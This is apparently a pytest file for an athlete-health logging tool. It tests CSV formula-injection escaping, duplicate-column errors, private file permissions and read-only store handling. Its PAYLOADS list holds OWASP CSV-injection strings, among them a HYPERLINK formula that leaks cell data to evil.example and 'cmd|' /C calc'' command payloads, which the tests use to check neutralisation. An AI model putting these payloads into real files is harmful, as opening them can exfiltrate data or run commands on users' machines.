"""Issue 11 (store side): attacks on the files the kit writes and reads, each reproduced first.

Item 3 CSV formula injection, item 4 duplicate columns, item 5 file modes, item 9 read-only
stores, item 10 correction / erasure / audit; also rule_set and episodes in the store.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from kit.cli import main
from kit.store import Store

ROOT = Path(__file__).resolve().parents[1]

#: OWASP "CSV Injection" payloads (issue 11 item 3)
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "''+twice", "'plain apostrophe"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def kit(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "KIT_STORE"}
    return subprocess.run([sys.executable, "-m", "kit", *args], input=stdin, capture_output=True, text=True, cwd=ROOT,
                          env=env, timeout=300)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(DANGER) or _is_number(cell), f"formula cell {cell!r} written unescaped"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _hostile_store(tmp_path: Path) -> Store:
    st = Store(tmp_path / "s.sqlite")
    for i, p in enumerate(PAYLOADS):
        st.save({"athlete_id": p.strip() or f"A{i}", "observed_at": f"2026-05-01T09:{i:02d}:00", "notes": p, "tremor": True,
                 "ambient_temp_c": -4.5})
    return st


# ---- item 3: CSV formula injection -------------------------------------------------------------

def test_log_export_csv_neutralises_formulas_but_keeps_negative_numbers(tmp_path):
    st = _hostile_store(tmp_path)
    text = st.export_text("csv")
    _assert_no_formula(text)
    rows = _cells(text)
    col = rows[0].index("ambient_temp_c")
    assert {r[col] for r in rows[1:]} == {"-4.5"}  # a negative number stays a number
    notes = [r[rows[0].index("notes")] for r in rows[1:]]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in notes and "'\t=1+1" in notes


def test_export_import_export_round_trip_restores_the_original_text_exactly(tmp_path):
    st = _hostile_store(tmp_path)
    first = st.export_text("csv")
    (tmp_path / "e.csv").write_text(first, encoding="utf-8", newline="")
    with Store(tmp_path / "t.sqlite") as st2:
        st2.import_csv(tmp_path / "e.csv")
        assert [o["notes"] for o in st2.observations()] == [o["notes"] for o in st.observations()]
        assert sorted(o["notes"] for o in st2.observations()) == sorted(p.replace("\r", "\n") for p in PAYLOADS)
        assert st2.export_text("csv") == first


def test_score_out_neutralises_formulas(tmp_path):
    st = _hostile_store(tmp_path)
    st.export("csv", tmp_path / "e.csv")
    out = tmp_path / "scored.csv"
    assert main(["score", str(tmp_path / "e.csv"), "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    _assert_no_formula(text)
    assert "'=HYPERLINK" in text
    r = kit("score", str(tmp_path / "e.csv"))  # standard output too
    assert r.returncode == 0, r.stderr
    _assert_no_formula(r.stdout)


def test_reject_file_neutralises_formulas_and_re_imports_the_same_cells(tmp_path):
    src = tmp_path / "team.csv"
    src.write_text('athlete_id,pain_score,notes\n"=1+1",11,"@SUM(A1)"\nB,2,"-x"\n', encoding="utf-8")
    with Store(tmp_path / "s.sqlite") as st:
        report = st.import_csv(src, skip_bad=True)
        rej = report.rejects_path.read_text(encoding="utf-8")
        _assert_no_formula(rej)
        assert "'=1+1" in rej and "'@SUM(A1)" in rej
        fixed = rej.replace(",11,", ",1,")
        report.rejects_path.write_text(fixed, encoding="utf-8")
        st.import_csv(report.rejects_path)
        assert [(o["athlete_id"], o.get("notes")) for o in st.observations()] == [("B", "-x"), ("=1+1", "@SUM(A1)")]


# ---- item 4: duplicate column names ------------------------------------------------------------

def test_a_repeated_column_is_an_error_naming_it_exit_2_and_nothing_stored(tmp_path):
    src = tmp_path / "dup.csv"
    src.write_text("athlete_id,tremor,athlete_id,notes,notes\nATH-01,true,ATH-99,a,b\n", encoding="utf-8")
    store = tmp_path / "s.sqlite"
    r = kit("log", "import", str(src), "--store", str(store))
    assert r.returncode == 2 and r.stdout == "", r
    assert "athlete_id" in r.stderr and "notes" in r.stderr and "more than once" in r.stderr
    assert not store.exists() or Store(store).count() == 0
    r = kit("log", "import", str(src), "--skip-bad", "--store", str(store))  # not a bad row: the whole file is refused
    assert r.returncode == 2 and (not store.exists() or Store(store).count() == 0)
    r = kit("score", str(src))
    assert r.returncode == 2 and r.stdout == "" and "athlete_id" in r.stderr and "more than once" in r.stderr


# ---- item 5: health data is 0600 / 0700 whatever the umask -------------------------------------

def _mode(p: Path) -> int:
    return p.stat().st_mode & 0o777


@pytest.fixture(params=[0o022, 0o000], ids=["umask022", "umask000"])
def umask(request):
    old = os.umask(request.param)
    yield request.param
    os.umask(old)


def _assert_private(files: list[Path], dirs: list[Path]) -> None:
    assert files and all(f.exists() for f in files), files
    assert {str(f): oct(_mode(f)) for f in files} == {str(f): oct(0o600) for f in files}
    assert {str(d): oct(_mode(d)) for d in dirs} == {str(d): oct(0o700) for d in dirs}


def test_store_and_its_wal_shm_journal_files_are_0600_in_0700_folders(tmp_path, umask):
    path = tmp_path / "club" / "season" / "s.sqlite"
    with Store(path) as st:
        st.save({"athlete_id": "ATH-01", "tremor": True})
        _assert_private([path, Path(f"{path}-wal"), Path(f"{path}-shm")], [tmp_path / "club", tmp_path / "club" / "season"])
    import sqlite3
    conn = sqlite3.connect(path, isolation_level=None)  # a rollback journal (as after 'PRAGMA journal_mode=DELETE')
    conn.execute("PRAGMA journal_mode = DELETE")
    conn.execute("BEGIN IMMEDIATE")
    conn.execute("INSERT INTO meta (key, value) VALUES ('x', 'y')")
    _assert_private([Path(f"{path}-journal")], [])
    conn.execute("ROLLBACK")
    conn.close()


def test_an_existing_world_readable_store_is_made_0600_when_opened_for_writing(tmp_path, umask):
    path = tmp_path / "s.sqlite"
    Store(path).save({"athlete_id": "ATH-01", "tremor": True})
    for p in tmp_path.iterdir():
        os.chmod(p, 0o644)
    with Store(path) as st:
        st.save({"athlete_id": "ATH-02", "tremor": True})
        _assert_private([path, Path(f"{path}-wal"), Path(f"{path}-shm")], [])


def test_exports_reject_files_and_log_csvs_are_0600_in_0700_folders(tmp_path, umask):
    from kit.io import write_log_csv

    with Store(tmp_path / "s.sqlite") as st:
        st.save({"athlete_id": "ATH-01", "tremor": True})
        st.export("csv", tmp_path / "e1" / "log.csv")
        st.export("json", tmp_path / "e2" / "log.json")
        bad = tmp_path / "bad.csv"
        bad.write_text("athlete_id,pain_score\nA,11\nB,1\n", encoding="utf-8")
        report = st.import_csv(bad, skip_bad=True, rejects=tmp_path / "rej" / "r.csv")
    write_log_csv([{"athlete_id": "A"}], tmp_path / "w.csv")
    _assert_private([tmp_path / "e1" / "log.csv", tmp_path / "e2" / "log.json", report.rejects_path, tmp_path / "w.csv"],
                    [tmp_path / "e1", tmp_path / "e2", tmp_path / "rej"])


def test_score_out_is_0600_in_a_0700_folder(tmp_path, umask):
    out = tmp_path / "scores" / "scored.csv"
    assert main(["score", str(ROOT / "data" / "sample-team-log.csv"), "--out", str(out)]) == 0
    _assert_private([out], [tmp_path / "scores"])


def _kit_umask(*args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "KIT_STORE"}
    return subprocess.run([sys.executable, "-m", "kit", *args], capture_output=True, text=True, cwd=ROOT, env=env,
                          timeout=300, preexec_fn=lambda: os.umask(0o022))


def test_handouts_and_exported_notebooks_are_0600_in_0700_folders(tmp_path):
    import nbformat

    r = _kit_umask("handout", "--log", str(ROOT / "data" / "sample-team-log.csv"), "--athlete", "ATH-07",
                   "--out", str(tmp_path / "handouts" / "team"), "--date", "2026-11-01")
    assert r.returncode == 0, r.stderr
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("ATH-07 notes")])
    nbformat.write(nb, tmp_path / "nb.ipynb")
    r2 = _kit_umask("export", str(tmp_path / "nb.ipynb"), "--out", str(tmp_path / "exported"))
    assert r2.returncode == 0, r2.stderr
    _assert_private([Path(r.stdout.strip()), tmp_path / "exported" / "nb.html"],
                    [tmp_path / "handouts", tmp_path / "handouts" / "team", tmp_path / "exported"])


# ---- item 9: read-only stores can be read; messages say what is wrong --------------------------

NOBODY = 65534


def _as_reader(*args: str) -> subprocess.CompletedProcess:
    """``python -m kit ARGS`` as a user without write permission (root ignores modes: run as 'nobody')."""
    env = {k: v for k, v in os.environ.items() if k != "KIT_STORE"}
    env["PYTHONPATH"] = str(ROOT)
    cmd = [sys.executable, "-m", "kit", *args]
    if os.geteuid() == 0:
        cmd = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *cmd]
    return subprocess.run(cmd, capture_output=True, text=True, cwd="/", env=env, timeout=300)


def _read_only_tree(folder: Path, file_mode: int = 0o400) -> None:
    for p in [folder, *folder.iterdir()]:
        if os.geteuid() == 0:
            os.chown(p, NOBODY, NOBODY)
    for p in folder.iterdir():
        os.chmod(p, file_mode)
    os.chmod(folder, 0o555)


@pytest.fixture
def open_tmp():
    """A temporary folder every user can reach (pytest's tmp_path is private to root)."""
    import shutil
    import tempfile

    d = Path(tempfile.mkdtemp(prefix="kit-ro-"))
    os.chmod(d, 0o755)
    yield d
    for p in [d, *d.rglob("*")]:
        if p.is_dir():
            os.chmod(p, 0o755)
    shutil.rmtree(d, ignore_errors=True)


@pytest.fixture
def ro_store(open_tmp):
    folder = open_tmp / "ro"
    with Store(folder / "s.sqlite") as st:
        st.save({"athlete_id": "ATH-01", "observed_at": "2026-05-01T09:30:00", "tremor": True})
        st.save({"athlete_id": "ATH-02", "observed_at": "2026-05-01T09:40:00", "spasm": True})
    _read_only_tree(folder)
    return folder / "s.sqlite"


def test_read_only_commands_work_on_a_read_only_folder_and_file(ro_store):
    r = _as_reader("log", "list", "--store", str(ro_store))
    assert r.returncode == 0, r.stderr
    assert "ATH-01" in r.stdout and "ATH-02" in r.stdout
    r = _as_reader("log", "info", "--store", str(ro_store))
    assert r.returncode == 0 and "observations: 2" in r.stdout and "integrity check: ok" in r.stdout, r.stderr
    r = _as_reader("log", "export", "--format", "json", "--store", str(ro_store))
    assert r.returncode == 0 and [o["athlete_id"] for o in json.loads(r.stdout)] == ["ATH-01", "ATH-02"], r.stderr
    assert sorted(p.name for p in ro_store.parent.iterdir()) == ["s.sqlite"]  # nothing created beside it
    obs = ro_store.parent.parent / "o.json"
    obs.write_text('{"athlete_id": "ATH-03", "tremor": true}', encoding="utf-8")
    os.chmod(obs, 0o644)
    r = _as_reader("log", "add", str(obs), "--store", str(ro_store))  # writing is refused, saying why
    assert r.returncode == 1 and "read-only" in r.stderr and "Traceback" not in r.stderr, r.stderr


def test_read_only_commands_say_what_is_actually_wrong(open_tmp):
    tmp_path = open_tmp
    r = _as_reader("log", "list", "--store", str(tmp_path / "missing.sqlite"))
    assert r.returncode == 1 and "no store at" in r.stderr
    r = _as_reader("log", "list", "--store", str(tmp_path))
    assert r.returncode == 1 and "is a folder" in r.stderr and "not writable" not in r.stderr
    junk = tmp_path / "junk.sqlite"
    junk.write_text("athlete_id,tremor\nA,true\n" * 50, encoding="utf-8")
    os.chmod(junk, 0o644)
    r = _as_reader("log", "info", "--store", str(junk))
    assert r.returncode == 1 and "not a SQLite file" in r.stderr, r.stderr
    folder = tmp_path / "locked"
    with Store(folder / "s.sqlite") as st:
        st.save({"athlete_id": "ATH-01", "tremor": True})
    _read_only_tree(folder, file_mode=0o000)
    r = _as_reader("log", "export", "--format", "csv", "--store", str(folder / "s.sqlite"))
    assert r.returncode == 1 and "no permission to read" in r.stderr, r.stderr
